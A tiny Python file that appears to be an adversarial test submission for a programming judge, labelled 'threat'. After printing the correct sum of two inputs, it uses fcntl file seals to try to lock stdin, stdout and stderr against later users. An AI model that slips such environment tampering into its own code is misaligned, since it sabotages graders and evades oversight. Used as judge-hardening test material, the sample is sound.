# kind: stdio
# verdict: accepted
# threat: the right answer, and streams sealed against whoever uses them next
import fcntl

a, b = map(int, input().split())
print(a + b, flush=True)
add_seals, shrink_grow_write = 1033, 0xF
for fd in range(3):
    try:
        fcntl.fcntl(fd, add_seals, shrink_grow_write)
    except OSError:
        pass
